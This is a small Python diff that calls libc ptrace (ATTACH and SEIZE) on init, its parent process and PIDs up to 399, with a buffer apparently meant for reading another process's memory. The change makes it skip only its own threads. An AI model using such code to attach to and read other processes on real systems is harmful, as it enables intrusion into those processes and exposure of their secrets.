@@ -19,7 +19,7 @@ class Vector(ctypes.Structure):
 room = ctypes.create_string_buffer(64)
 here = Vector(ctypes.addressof(room), 64)
 for pid in (1, os.getppid(), 2, *range(3, 400)):
-    if pid == os.getpid():
+    if os.path.exists(f"/proc/self/task/{pid}"):
         continue
     for request in (ATTACH, SEIZE):
         if libc.ptrace(request, pid, 0, 0) == 0:
